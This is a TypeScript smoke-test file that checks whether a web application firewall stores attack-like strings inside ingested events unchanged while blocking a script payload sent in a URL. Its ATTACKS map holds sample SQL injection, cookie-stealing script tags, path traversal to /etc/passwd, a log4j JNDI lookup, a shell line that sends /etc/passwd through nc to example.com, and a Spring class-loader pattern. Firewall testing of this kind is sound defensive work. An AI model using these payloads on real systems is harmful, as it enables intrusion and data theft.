import { Skipped, type SmokeCheck } from '../../cli/smoke/check';
import { runDollars } from '../../cli/smoke/checks/compaction';
import type { Dataset } from '../../lib/dataset';
import { FRONT_PERMISSIONS, frontOf } from './front';
import { eventsPath, expectStored, headersOf, makeEvents, send, textOf, untilCommitted } from './send';

/** What rules about bodies look for, by what it attacks. An event may quote any of it. */
export const ATTACKS: Readonly<Record<string, string>> = {
  SQL: "1' OR '1'='1' UNION SELECT password FROM users; DROP TABLE orders;--",
  HTML: '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
  paths: '../../../../etc/passwd',
  log4j: ['$', '{jndi:ldap://example.com/a}'].join(''),
  shell: '; cat /etc/passwd | nc example.com 80 & $(id)',
  includes: 'http://example.com/shell.php?cmd=/bin/sh',
  Java: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i',
};

/** Above this, the firewall has a rule of its own. */
const LARGE_CHARACTERS = 10_000;

/** Outside of the events, the same is an attack. */
const OUTSIDE = '/?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E';

const OF_FIREWALL = {
  answers: { 'AWS::WAFv2::WebACL': ['that WAF labels and blocks as configured'] },
  asked: 'ingest',
  needs: ['ingest-events'],
  permissions: FRONT_PERMISSIONS,
  notEmulated: 'the emulator has no firewall',
  dollars: runDollars,
} as const satisfies Partial<SmokeCheck>;

/** The firewall lets through what events may quote, and blocks the same elsewhere. Costs one run. */
export const ingestAttacks: SmokeCheck = {
  id: 'ingest-attacks',
  proves: 'payloads that look like attacks are stored as they are, and the same outside of events is blocked',
  ...OF_FIREWALL,
  async run(context) {
    const front = await frontOf(context);
    const column = freeText(front.dataset, front.id);
    if (column === undefined)
      throw new Skipped(`${front.dataset.name} has no column of type string that takes any text`);
    const payloads = { ...ATTACKS, 'a large body': 'x'.repeat(LARGE_CHARACTERS) };
    const sent = new Map<string, string>();
    for (const [what, payload] of Object.entries(payloads)) {
      const [made = {}] = makeEvents(front, 1);
      const event = { ...made, [column]: payload };
      expectStored(
        await send(context, eventsPath(front), await headersOf(front), Buffer.from(textOf(front, event))),
        1,
        `a payload that attacks ${what}`,
      );
      sent.set(String(event[front.id]), payload);
    }
    const { status } = await send(context, OUTSIDE, { 'user-agent': 'lake-smoke' });
    if (status !== 403) throw new Error(`${OUTSIDE} is answered with ${status} instead of 403: no firewall blocks it`);
    const stored = await untilCommitted(context, [...sent.keys()], column);
    for (const [id, payload] of sent) {
      if (stored.get(id) !== payload)
        throw new Error(`${column} is ${stored.get(id)?.slice(0, 100)} instead of ${payload.slice(0, 100)}`);
    }
    return `${sent.size} payloads in ${column}, and one request was blocked`;
  },
};

/** The firewall counts a request without this header, and lets it through to events. Costs one run. */
export const ingestUserAgent: SmokeCheck = {
  id: 'ingest-user-agent',
  proves: 'an event in a request without User-Agent is acknowledged, and stored',
  ...OF_FIREWALL,
  async run(context) {
    const front = await frontOf(context);
    const [event = {}] = makeEvents(front, 1);
    const { 'user-agent': _, ...headers } = await headersOf(front);
    const answer = await send(context, eventsPath(front), headers, Buffer.from(textOf(front, event)));
    expectStored(answer, 1, 'without User-Agent');
    await untilCommitted(context, [String(event[front.id])]);
    return 'it was stored';
  },
};

/** A column of texts without a rule. */
const freeText = ({ columns, checks, dedupe }: Dataset, id: string): string | undefined =>
  columns.find(
    ({ name, type }) =>
      type.kind === 'string' &&
      type.json !== true &&
      name !== id &&
      !dedupe.key.includes(name) &&
      checks?.some((check) => JSON.stringify(check).includes(name)) !== true,
  )?.name;
